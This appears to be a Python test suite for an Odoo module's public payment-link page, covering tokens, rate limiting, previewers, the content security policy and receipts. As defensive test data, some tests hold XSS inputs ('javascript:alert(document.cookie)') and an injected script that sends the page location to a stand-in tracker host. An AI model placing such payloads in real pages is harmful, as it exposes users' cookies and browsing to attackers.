# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import base64
import hashlib
import re
from datetime import timedelta
from unittest.mock import patch

from freezegun import freeze_time

from odoo import fields
from odoo.exceptions import UserError
from odoo.tests import tagged
from odoo.tools import mute_logger

from .. import const, utils
from ..controllers.portal import PaymentLinkPortal
from .common import CSRF_RE, DUE, PayPageCommon


@tagged("post_install", "-at_install")
class TestPayPage(PayPageCommon):
    def test_the_fixture_sends_no_link_until_a_test_uses_it(self):
        """PayPageCommon sends the invoice's link on first use, not in every setUp."""
        self.assertFalse(self.env["payment.link"].search([("invoice_id", "=", self.invoice.id)]))
        token = self.token
        self.assertEqual(self.env["payment.link.token"]._find_link(token), self.link)
        self.assertEqual(self.link.invoice_id, self.invoice)
        self.assertEqual(self.answer["link_id"], self.link.id)

    def test_pay_page_query_budget(self):
        """An absolute query budget of the pay page (caches warm): a change that adds queries
        to every opening fails here and says by how much."""
        self.open_page(person=False)  # warm the caches (and record the first preview)
        self.open_page(person=False)
        with self.assertQueryCount(PAY_PAGE_BUDGET):
            response = self.open_page(person=False)
        self.assertEqual(response.status_code, 200)

    def test_page_shows_the_invoice_and_marks_the_link_opened(self):
        iphone = {"User-Agent": "Mozilla/5.0 (iPhone) Test"}
        response = self.open_page(headers=iphone, person=False)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(self.link.state, "sent", "the GET alone is not a person's opening")
        self.assertIn(
            f'class="d-none o_payment_link_beacon" data-token="{self.token}"', response.text
        )
        self.assertEqual(
            self.signal_opened(user_agent=iphone["User-Agent"]),
            {"jsonrpc": "2.0", "id": 1, "result": {}},
        )
        self.assertEqual(response.headers["Referrer-Policy"], "no-referrer")
        self.assertIn("noindex", response.headers["X-Robots-Tag"])
        self.assertIn("no-store", response.headers["Cache-Control"])
        body = response.text
        self.assertIn('name="robots" content="noindex, nofollow"', body)
        self.assertIn(self.invoice.name, body)
        self.assertIn("1,234.56", body, "amount formatted for the link's language")
        self.assertIn("https://yourcompany.example.com/legal", body)
        self.assertIn("https://yourcompany.example.com/privacy", body)
        self.assertIn("o_payment_form", body, "Odoo's own payment form")
        self.assertIn(self.demo_provider.name, body)
        self.assertEqual(self.link.state, "opened")
        self.assertTrue(self.link.opened_date)
        opened = self.link.event_ids.filtered(lambda e: e.event_type == "opened")
        self.assertEqual(opened.user_agent, "Mozilla/5.0 (iPhone) Test")
        self.assertEqual(self.invoice.payment_link_state, "opened")

    def test_page_in_the_customer_language(self):
        self.link.sudo().lang = "fr_FR"
        body = self.open_page().text
        self.assertIn("Montant", body)
        self.assertIn("1\xa0234,56", body)
        self.assertIn("Mentions légales", body)
        self.link.action_expire()
        self.assertIn("Ce lien de paiement a expiré", self.open_page().text)
        # What the company's users read stays in the company's language.
        self.assertIn(
            "Payment link", self.invoice.message_ids.filtered(lambda m: m.subject)[:1].subject
        )

    def test_reopenings_are_audited_once_per_browser_and_hour(self):
        iphone, android = "Mozilla/5.0 (iPhone) Test", "Mozilla/5.0 (Android) Test"
        for agent in (iphone, iphone, android, android, iphone):
            self.open_page(headers={"User-Agent": agent})

        def openings():
            events = self.link.event_ids.filtered(lambda e: e.event_type == "opened")
            return events.sorted("id").mapped("user_agent")

        self.assertEqual(openings(), [iphone, android], "a reload is not a new opening")
        window = timedelta(minutes=const.AUDIT_WINDOW_MINUTES)
        with freeze_time(fields.Datetime.now() + window / 2):
            self.open_page(headers={"User-Agent": android})
        self.assertEqual(openings(), [iphone, android], "the same browser within the hour")
        with freeze_time(fields.Datetime.now() + window + timedelta(minutes=1)):
            self.open_page(headers={"User-Agent": android})
        self.assertEqual(openings(), [iphone, android, android])
        self.assertEqual(self.link.state, "opened")

    def test_changing_user_agents_cannot_flood_the_trail(self):
        for index in range(const.AUDIT_EVENTS_PER_WINDOW * 2):
            self.signal_opened(user_agent=f"Mozilla/5.0 (Flood {index})")
            self.open_page(headers={"User-Agent": f"WhatsApp/2.{index}"}, person=False)
        types = self.link.event_ids.mapped("event_type")
        self.assertEqual(types.count("opened"), const.AUDIT_EVENTS_PER_WINDOW)
        self.assertEqual(types.count("preview"), const.AUDIT_EVENTS_PER_WINDOW)
        with freeze_time(fields.Datetime.now() + timedelta(minutes=const.AUDIT_WINDOW_MINUTES + 1)):
            self.signal_opened(user_agent="Mozilla/5.0 (Next hour)")
        self.assertEqual(
            self.link.event_ids.mapped("event_type").count("opened"),
            const.AUDIT_EVENTS_PER_WINDOW + 1,
        )

    def test_link_previewers_are_recorded_as_previews_without_notification(self):
        self.link.sudo().sender_id = self.billing_user
        previewers = {
            "iMessage": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 "
            "(KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 "
            "Facebot Twitterbot/1.0",
            "WhatsApp": "WhatsApp/2.23.20.0 A",
            "Gmail proxy": "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 "
            "(via ggpht.com GoogleImageProxy)",
            "Slack": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
            "Teams": "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 "
            "skype-url-preview@microsoft.com",
            "Outlook": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) BingPreview/1.0b",
        }
        browser = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Mobile/15E148 Safari/604.1"
        requests = [
            *(
                (name, lambda agent=agent: self.open_page(headers={"User-Agent": agent}))
                for name, agent in previewers.items()
            ),
            # Request shapes: HEAD, and the prefetch headers of browsers and mail scanners.
            (
                "HEAD",
                lambda: self.url_open(
                    f"/pay/{self.token}", head=True, headers={"User-Agent": browser}
                ),
            ),
            *(
                (
                    header,
                    lambda header=header, value=value: self.open_page(
                        headers={"User-Agent": browser, header: value}, person=False
                    ),
                )
                for header, value in (
                    ("Purpose", "prefetch"),
                    ("Sec-Purpose", "prefetch;prerender"),
                    ("X-Purpose", "preview"),
                    ("X-Moz", "prefetch"),
                )
            ),
            # A previewer that runs the page's script is still a previewer.
            ("script", lambda: self.signal_opened(user_agent=previewers["WhatsApp"])),
        ]
        step = timedelta(minutes=const.AUDIT_WINDOW_MINUTES + 1)
        for index, (name, request) in enumerate(requests, start=1):
            with self.subTest(request=name), freeze_time(fields.Datetime.now() + index * step):
                answer = request()
                if not isinstance(answer, dict):
                    self.assertEqual(answer.status_code, 200)
                previews = self.link.event_ids.filtered(lambda e: e.event_type == "preview")
                self.assertEqual(len(previews), index, "recorded as a preview")
        self.assertEqual(self.link.state, "sent", "no preview opens the link")
        self.assertFalse(self.link.opened_date)
        events = self.link.event_ids
        self.assertFalse(events.filtered(lambda e: e.event_type == "opened"))
        self.assertIn(previewers["Slack"], previews.mapped("user_agent"))
        self.assertFalse(
            self.invoice.message_ids.filtered(
                lambda m: m.partner_ids & self.billing_user.partner_id
            ),
            "a preview notifies nobody",
        )
        # The person then opens it: one opening, one notification.
        self.open_page(headers={"User-Agent": browser})
        self.assertEqual(self.link.state, "opened")
        self.assertEqual(
            len(
                self.invoice.message_ids.filtered(
                    lambda m: m.partner_ids & self.billing_user.partner_id
                )
            ),
            1,
        )

    def test_first_opening_notifies_salesperson_and_sender(self):
        self.link.sudo().sender_id = self.billing_user
        self.open_page()
        self.open_page()
        notes = self.invoice.message_ids.filtered(
            lambda m: self.billing_user.partner_id in m.partner_ids
        )
        self.assertEqual(len(notes), 1, "notified once, at the first opening")
        self.assertIn("opened", notes.subject)

    def test_notifications_follow_the_company_setting(self):
        self.company.payment_link_notify_salesperson = False
        self.company.payment_link_notify_sender = False
        self.open_page()
        self.assertFalse(
            self.invoice.message_ids.filtered(
                lambda m: m.partner_ids & self.billing_user.partner_id
            )
        )

    def test_unknown_malformed_and_tampered_tokens_get_the_same_404(self):
        reference = self.open_page(token="A" * len(self.token))
        self.assertEqual(reference.status_code, 404)
        altered = self.token[:-1] + ("A" if self.token[-1] != "A" else "B")
        for token in (
            altered,
            self.token[:-1],
            self.token + "x",
            "x",
            "%00",
            "é" * 22,
            self.token.upper() if self.token.upper() != self.token else "z" * 22,
        ):
            with self.subTest(token=token):
                response = self.open_page(token=token)
                self.assertEqual(response.status_code, 404)
                self.assertEqual(CSRF_RE.sub("", response.text), CSRF_RE.sub("", reference.text))
        self.assertNotIn(self.invoice.name, reference.text)
        self.assertNotIn(self.company.name, reference.text)
        self.assertEqual(self.link.state, "sent", "a miss never opens a link")

    def test_expired_link_is_gone(self):
        self.link.action_expire()
        response = self.open_page()
        self.assertEqual(response.status_code, 410)
        self.assertIn("This payment link has expired", response.text)
        self.assertIn(self.company.phone, response.text)
        self.assertIn(self.company.email, response.text)

    def test_link_past_its_validity_is_gone_before_the_cron_ran(self):
        self.send_default_link()
        with freeze_time(fields.Datetime.now() + timedelta(days=61)):
            response = self.open_page()
        self.assertEqual(response.status_code, 410)
        self.assertEqual(self.link.state, "expired")

    def test_cancelled_and_replaced_links_are_gone(self):
        self.send_default_link()
        with self.mock_gateways():
            new = self.link_of(self.send_link()[0])
        self.assertEqual(self.link.replaced_by_id, new)
        response = self.open_page()
        self.assertEqual(response.status_code, 410)
        self.assertIn("replaced by a newer one", response.text)
        self.assertIn("To pay", response.text)
        self.invoice.button_draft()
        self.invoice.action_post()
        response = self.open_page(token=self.token)
        self.assertEqual(response.status_code, 410)

    def test_old_link_of_a_paid_document_says_nothing_is_due(self):
        self.send_default_link()
        with self.mock_gateways():
            self.send_link()
        # Paid after the resend (through the newer link or otherwise): the old link's page
        # says that nothing is left to pay instead of asking the customer to pay.
        self.env["account.payment.register"].with_context(
            active_model="account.move", active_ids=self.invoice.ids
        ).create({})._create_payments()
        response = self.open_page()
        self.assertEqual(response.status_code, 410)
        self.assertIn("Nothing is left to pay", response.text)
        self.assertNotIn("To pay", response.text)
        self.assertNotIn("replaced by a newer one", response.text)

    def test_paid_link_shows_the_receipt(self):
        self.send_default_link()
        self.env["account.payment.register"].with_context(
            active_model="account.move", active_ids=self.invoice.ids
        ).create({})._create_payments()
        response = self.open_page()
        self.assertEqual(response.status_code, 200)
        self.assertIn("Payment received", response.text)
        self.assertIn("Download invoice (PDF)", response.text)
        self.assertNotIn("/my/invoices/", response.text, "not the invoice's permanent portal token")
        pdf_url = re.search(r'href="(/pay/done/\d+/pdf\?access_token=[^"]+)"', response.text).group(
            1
        )
        pdf = self.url_open(pdf_url.replace("&amp;", "&"))
        self.assertEqual(pdf.status_code, 200)
        self.assertEqual(pdf.headers["Content-Type"], "application/pdf")
        self.assertIn(self.invoice.name.replace("/", "_"), pdf.headers["Content-Disposition"])

    def test_invoice_paid_elsewhere_shows_the_receipt_even_before_the_hook(self):
        self.send_default_link()
        # Payment registered without going through the hooks (e.g. data imported).
        self.env.cr.execute(
            "UPDATE account_move SET payment_state = 'paid' WHERE id = %s", [self.invoice.id]
        )
        self.invoice.invalidate_recordset(["payment_state"])
        response = self.open_page()
        self.assertEqual(response.status_code, 200)
        self.assertIn("Payment received", response.text)
        self.assertEqual(self.link.state, "paid")

    def test_page_of_another_company_shows_only_its_own_data(self):
        other = self.setup_other_company(name="Other Towing Co")["company"]
        other.write({"payment_link_legal_url": "https://other.example.com/legal"})
        other_provider = self._prepare_demo_provider(other)
        customer = self.customer.copy({"company_id": other.id})
        invoice = self._create_posted_invoice(customer, 50.0, company=other)
        with self.mock_gateways():
            answer = self.send_link(invoice.with_company(other))[0]
        response = self.open_page(token=self.token_of(answer))
        self.assertEqual(response.status_code, 200)
        self.assertIn("Other Towing Co", response.text)
        self.assertIn("https://other.example.com/legal", response.text)
        self.assertIn(f'data-provider-id="{other_provider.id}"', response.text)
        self.assertNotIn(f'data-provider-id="{self.demo_provider.id}"', response.text)
        self.assertNotIn("yourcompany.example.com/legal", response.text)

    @mute_logger("odoo.addons.payment_link_sms.controllers.portal", "odoo.http")
    def test_repeated_misses_are_rate_limited(self):
        for _attempt in range(const.MISS_LIMIT):
            self.assertEqual(self.open_page(token="nope" * 6).status_code, 404)
        self.assertEqual(self.open_page(token="nope" * 6).status_code, 429)
        Throttle = self.env["payment.link.throttle"].sudo()
        rows = Throttle.search_count([])
        self.assertEqual(self.open_page(token="nope" * 6).status_code, 429)
        self.assertEqual(Throttle.search_count([]), rows, "a blocked address adds no rows")
        # Other requests' misses (cross-site images, the same NAT) never refuse a valid token.
        response = self.open_page()
        self.assertEqual(response.status_code, 200)
        self.assertEqual(self.link.state, "opened")
        self.assertEqual(
            self.pay_rpc(token="nope" * 6)["error"]["data"]["message"],
            "Too many attempts: please wait a few minutes.",
        )
        self.assertIn("result", self.pay_rpc(), "a valid token pays, blocked address or not")
        self.assertFalse(Throttle._is_blocked("203.0.113.9"), "other addresses are not blocked")
        with freeze_time(fields.Datetime.now() + timedelta(minutes=const.MISS_WINDOW_MINUTES + 1)):
            self.assertEqual(self.open_page(token="nope" * 6).status_code, 404)

    @mute_logger("odoo.http")
    def test_misses_are_counted_on_every_public_route(self):
        Throttle = self.env["payment.link.throttle"].sudo()
        misses = [
            lambda: self.open_page(token="nope" * 6),
            lambda: self.pay_rpc(token="nope" * 6),
            lambda: self.signal_opened(token="nope" * 6),
            lambda: self.url_open(f"/pay/done/{self.link.id}?access_token=1-forged"),
            lambda: self.url_open(f"/pay/done/{self.link.id}/pdf?access_token=1-forged"),
        ]
        for index, miss in enumerate(misses, start=1):
            answer = miss()
            if isinstance(answer, dict):
                self.assertEqual(
                    answer["error"]["data"]["message"], "This payment link is not valid."
                )
            else:
                self.assertEqual(answer.status_code, 404)
            self.assertEqual(Throttle.search_count([]), index)
        self.assertFalse(self.link.transaction_ids)
        self.assertEqual(self.link.state, "sent")

    def test_ipv6_clients_are_keyed_by_their_64(self):
        Throttle = self.env["payment.link.throttle"].sudo()
        for index in range(const.MISS_LIMIT):
            Throttle._register_miss(f"2001:db8:1:2::{index + 1:x}")
        self.assertTrue(Throttle._is_blocked("2001:db8:1:2:abcd:ef01:2345:6789"))
        self.assertFalse(Throttle._is_blocked("2001:db8:1:3::1"), "the next /64 is someone else")
        for _index in range(const.MISS_LIMIT):
            Throttle._register_miss("::ffff:198.51.100.7")
        self.assertTrue(Throttle._is_blocked("198.51.100.7"), "IPv4-mapped is the IPv4 address")
        self.assertFalse(Throttle._is_blocked("198.51.100.8"))

    def test_only_http_links_on_the_page(self):
        self.company.website = "javascript:alert(document.cookie)"
        self.env.cr.execute(
            "UPDATE res_company SET payment_link_legal_url = %s WHERE id = %s",
            ["javascript:alert(1)", self.company.id],
        )
        self.company.invalidate_recordset(["payment_link_legal_url"])
        self.link.action_expire()  # the contact block with the website is on the expired page
        body = self.open_page().text
        self.assertNotIn("javascript:", body)
        self.assertNotIn("Legal notice", body)
        self.company.website = "https://www.yourcompany.example.com"
        body = self.open_page().text
        self.assertIn('href="https://www.yourcompany.example.com"', body)

    def test_content_security_policy_and_no_framing(self):
        response = self.open_page()
        self.assertEqual(response.headers["X-Frame-Options"], "DENY")
        policy = dict(
            part.strip().split(" ", 1)
            for part in response.headers["Content-Security-Policy"].split(";")
        )
        self.assertEqual(policy["frame-ancestors"], "'none'")
        self.assertEqual(policy["object-src"], "'none'")
        self.assertNotIn("unsafe-inline", policy["script-src"])
        self.assertNotIn("*", policy["script-src"])
        self.assertNotIn("https:", policy["script-src"])
        inline = [
            body
            for attrs, body in re.findall(
                r"<script([^>]*)>(.*?)</script>", response.text, re.DOTALL
            )
            if "src=" not in attrs and body.strip()
        ]
        self.assertTrue(inline, "Odoo's layout has inline scripts")
        for body in inline:
            digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
            self.assertIn(f"'sha256-{digest}'", policy["script-src"], body[:80])
        self.assertNotIn("stripe", response.headers["Content-Security-Policy"])
        for path in ("/pay/" + "nope" * 6,):
            self.assertIn(
                "frame-ancestors 'none'", self.url_open(path).headers["Content-Security-Policy"]
            )

    def test_injected_inline_script_is_not_allowed(self):
        html = (
            '<script id="web.layout.odooscript">var odoo = {};</script>'
            "<script>odoo.__session_info__ = {};</script>"
            "<script>new Image().src='https://tracker.example.com/?u='+location</script>"
            '<script src="https://www.googletagmanager.com/gtag/js"></script>'
        )
        policy = utils.content_security_policy(html, {"script-src": ["https://js.stripe.com"]})
        script_src = policy.split("script-src ", 1)[1].split(";", 1)[0]
        self.assertEqual(script_src.count("'sha256-"), 2, "only Odoo's own two inline scripts")
        self.assertIn("https://js.stripe.com", script_src)
        self.assertNotIn("googletagmanager", policy)


@tagged("post_install", "-at_install")
class TestPayByLink(PayPageCommon):
    def setUp(self):
        super().setUp()
        # Refused payments are answered as JSON-RPC errors, which Odoo logs as warnings.
        self.enterContext(mute_logger("odoo.http"))

    def test_payment_done_pays_the_invoice(self):
        self.open_page()
        tx = self.pay("done")
        self.assertEqual(tx.state, "done")
        self.assertEqual(tx.payment_link_id, self.link)
        self.assertEqual(tx.invoice_ids, self.invoice)
        self.assertEqual(tx.partner_id, self.customer)
        self.assertAlmostEqual(tx.amount, 1234.56)
        self.assertTrue(tx.landing_route.startswith(f"/pay/done/{self.link.id}?access_token="))
        self.assertNotIn(self.token, tx.landing_route)
        self.assertEqual(self.link.state, "paid")
        self.assertEqual(self.link.paid_transaction_id, tx)
        self.assertAlmostEqual(self.link.amount_paid, 1234.56)
        events = self.link.event_ids.mapped("event_type")
        self.assertIn("payment_started", events)
        self.assertIn("paid", events)
        tx._post_process()
        self.assertIn(self.invoice.payment_state, ("paid", "in_payment"))
        self.assertTrue(tx.payment_id)
        # The provider's notification is answered first; its note follows from the queue.
        self.env["payment.link.notification"]._cron_notify()
        notes = self.invoice.message_ids.filtered(lambda m: m.subject and "paid" in m.subject)
        self.assertTrue(notes)
        receipt = self.url_open(tx.landing_route)
        self.assertEqual(receipt.status_code, 200)
        self.assertIn("Payment received", receipt.text)
        self.assertEqual(self.open_page().status_code, 200)

    @mute_logger("odoo.addons.payment.models.payment_transaction")
    def test_failed_and_cancelled_payments_leave_the_link_usable(self):
        for state in ("error", "cancel"):
            with self.subTest(state=state):
                tx = self.pay(state)
                self.assertEqual(tx.state, state)
                self.assertIn(self.link.state, ("sent", "opened"))
                failed = self.link.event_ids.filtered(
                    lambda e, tx=tx: e.event_type == "payment_failed" and e.transaction_id == tx
                )
                self.assertEqual(len(failed), 1)
                self.assertTrue(failed.reason)
                status = self.url_open(tx.landing_route)
                self.assertIn("The payment did not go through", status.text)
        tx = self.pay("done")
        self.assertEqual(self.link.state, "paid")
        self.assertEqual(self.link.paid_transaction_id, tx)

    def test_amount_always_comes_from_the_server(self):
        self.pay_refused(DUE, amount=1.0)
        self.assertFalse(self.link.transaction_ids, "nothing half-written")
        # Paid partly in the meantime: the page's old amount is refused, the new one accepted.
        self.env["account.payment.register"].with_context(
            active_model="account.move", active_ids=self.invoice.ids
        ).create({"amount": 234.56})._create_payments()
        self.pay_refused(DUE, amount=1234.56)
        tx = self.pay("done", amount=1000.0)
        self.assertAlmostEqual(tx.amount, 1000.0)

    def test_partial_payment_when_allowed(self):
        self.company.payment_link_allow_partial = True
        self.pay_refused(DUE, amount=2000.0)  # never more than due
        self.pay_refused(DUE, amount=0.0)
        self.pay_refused(DUE, amount=-5.0)
        self.pay_refused("This amount is not valid", amount="abc")
        page = self.url_open(f"/pay/{self.token}?amount=300")
        self.assertIn('name="amount"', page.text)
        self.assertIn('value="300.00"', page.text, "the amount as money, not 300.0")
        tx = self.pay("done", amount=300.0)
        self.assertAlmostEqual(tx.amount, 300.0)
        self.assertTrue(self.link.is_partly_paid, "usable for the rest (TestPartialPayments)")
        self.assertAlmostEqual(self.link.amount_paid, 300.0)
        # Where the customer lands: the part received and what remains, never a failure.
        landing = self.url_open(tx.landing_route)
        self.assertEqual(landing.status_code, 200)
        self.assertNotIn("did not go through", landing.text)
        self.assertNotIn("Nothing was charged", landing.text)
        self.assertIn("Payment received", landing.text)
        self.assertIn("934.56", landing.text)
        self.assertIn("o_payment_link_pay_rest", landing.text)
        # "Pay the rest" leads back to the link's page, for the amount left.
        values = dict(
            re.findall(
                r'<input type="hidden" name="(csrf_token|access_token)" value="([^"]*)"',
                landing.text,
            )
        )
        rest = self.url_open(f"/pay/retry/{self.link.id}", data=values)
        self.assertEqual(rest.status_code, 200)
        self.assertIn("o_payment_form", rest.text)
        self.assertIn('value="934.56"', rest.text)

    def test_client_cannot_choose_landing_route_or_save_a_card(self):
        answer = self.pay_rpc(tokenization_requested=True)
        tx = self.env["payment.transaction"].search(
            [("reference", "=", answer["result"]["reference"])]
        )
        self.assertFalse(tx.tokenize)
        self.assertNotIn("attacker", tx.landing_route)

    def test_unknown_parameters_are_refused(self):
        self.pay_refused(
            "The following kwargs are not whitelisted: partner_id", partner_id=self.customer_en.id
        )
        self.assertFalse(self.link.transaction_ids)

    def test_invalid_or_dead_token_cannot_pay(self):
        self.pay_refused("This payment link is not valid.", token="A" * 22)
        self.link.action_expire()
        self.pay_refused("expired")
        self.assertFalse(
            self.env["payment.transaction"].search([("payment_link_id", "=", self.link.id)])
        )

    @mute_logger("odoo.addons.payment.models.payment_transaction")
    def test_two_tabs_never_pay_twice(self):
        first = self.pay_rpc()["result"]
        second = self.pay_rpc()["result"]
        tx1, tx2 = (
            self.env["payment.transaction"].search([("reference", "=", answer["reference"])])
            for answer in (first, second)
        )
        # The demo provider cannot cancel an attempt: the older one stays open, and the first
        # one completed pays the link (a later one is refused as a payment: see
        # TestCapturedPaymentsAreNeverIgnored).
        self.assertEqual(tx1.state, "draft")
        tx2._handle_notification_data(
            "demo",
            {"reference": tx2.reference, "payment_details": "4242", "simulated_state": "done"},
        )
        self.assertEqual(tx2.state, "done")
        self.assertEqual(self.link.paid_transaction_id, tx2)
        # A third tab cannot start anything once paid.
        self.pay_refused(self.link._get_page_message("paid"))

    def test_pending_payment_blocks_a_second_one(self):
        self.pay("pending")
        self.pay_refused("already in progress")
        self.assertEqual(len(self.link.transaction_ids), 1)

    def test_landing_page_needs_its_access_token(self):
        tx = self.pay("done")
        wrong = self.url_open(f"/pay/done/{self.link.id}?access_token=wrong")
        self.assertEqual(wrong.status_code, 404)
        self.assertEqual(self.url_open(tx.landing_route).status_code, 200)
        # Signed for this link and this view: not another link's, not the PDF's.
        token = tx.landing_route.split("access_token=", 1)[1]
        other = self.invoice.copy()
        other.action_post()
        with self.mock_gateways():
            other_link = self.link_of(self.send_link(other)[0])
        self.assertEqual(
            self.url_open(f"/pay/done/{other_link.id}?access_token={token}").status_code, 404
        )
        self.assertEqual(
            self.url_open(f"/pay/done/{self.link.id}/pdf?access_token={token}").status_code, 404
        )
        expires, signature = token.split("-", 1)
        later = f"{int(expires) + 86400}-{signature}"
        self.assertEqual(
            self.url_open(f"/pay/done/{self.link.id}?access_token={later}").status_code, 404
        )

    def test_landing_page_has_a_bounded_life(self):
        tx = self.pay("done")
        hours = const.LANDING_TOKEN_HOURS
        with freeze_time(fields.Datetime.now() + timedelta(hours=hours - 1)):
            self.assertEqual(self.url_open(tx.landing_route).status_code, 200)
        with freeze_time(fields.Datetime.now() + timedelta(hours=hours, minutes=1)):
            self.assertEqual(self.url_open(tx.landing_route).status_code, 404)
        self.assertIn("access_token=", tx.landing_route)
        self.assertEqual(
            utils.mask_link_urls(f"GET {tx.landing_route} HTTP/1.1").count(
                tx.landing_route.split("access_token=", 1)[1]
            ),
            0,
        )

    def test_receipt_pdf_only_for_a_paid_link_through_its_signed_route(self):
        pdf_route = PaymentLinkPortal._payment_link_landing_route(self.link, "pdf")
        self.assertEqual(self.url_open(pdf_route).status_code, 404, "not paid: no receipt")
        self.pay("done")._post_process()
        self.assertEqual(self.link.state, "paid")
        self.assertEqual(self.url_open(pdf_route).status_code, 200)
        html = self.url_open(PaymentLinkPortal._payment_link_landing_route(self.link, "html"))
        self.assertEqual(html.status_code, 200)
        self.assertIn(self.invoice.name, html.text)
        self.assertIn("frame-ancestors 'none'", html.headers["Content-Security-Policy"])
        with freeze_time(fields.Datetime.now() + timedelta(hours=const.LANDING_TOKEN_HOURS + 1)):
            self.assertEqual(self.url_open(pdf_route).status_code, 404)

    def test_receipt_without_wkhtmltopdf_offers_the_html_view(self):
        self.pay("done")._post_process()
        receipt = self.open_page()
        pdf_url = re.search(r'href="(/pay/done/\d+/pdf\?access_token=[^"]+)"', receipt.text).group(
            1
        )
        Report = type(self.env["ir.actions.report"])
        error = UserError("Unable to find Wkhtmltopdf on this system. The PDF can not be created.")
        with patch.object(Report, "_pre_render_qweb_pdf", side_effect=error):
            response = self.url_open(pdf_url.replace("&amp;", "&"))
        # Not a dead end (issue 22 item 9): the page offers the document's web page.
        self.assertEqual(response.status_code, 200)
        self.assertIn("The PDF cannot be produced right now", response.text)
        self.assertNotIn("Wkhtmltopdf", response.text)
        html_url = re.search(
            r'href="(/pay/done/\d+/html\?access_token=[^"]+)"', response.text
        ).group(1)
        html = self.url_open(html_url.replace("&amp;", "&"))
        self.assertEqual(html.status_code, 200)
        self.assertIn(self.invoice.name, html.text)
        # From now on the receipt offers the web page, not a PDF this server fails to make.
        receipt = self.open_page()
        self.assertNotIn("/pdf?access_token=", receipt.text)
        self.assertIn("The PDF is not available on this server.", receipt.text)

    def test_receipt_offers_no_pdf_when_odoo_found_no_wkhtmltopdf(self):
        self.pay("done")._post_process()
        Report = type(self.env["ir.actions.report"])
        with patch.object(Report, "get_wkhtmltopdf_state", return_value="install"):
            receipt = self.open_page()
        self.assertNotIn("/pdf?access_token=", receipt.text)
        self.assertIn("The PDF is not available on this server.", receipt.text)
        html_url = re.search(r'href="(/pay/done/\d+/html\?access_token=[^"]+)"', receipt.text)
        html = self.url_open(html_url.group(1).replace("&amp;", "&"))
        self.assertEqual(html.status_code, 200)
        self.assertIn(self.invoice.name, html.text)


# Queries of one GET of a live link's pay page (demo provider), caches warm.
PAY_PAGE_BUDGET = 32
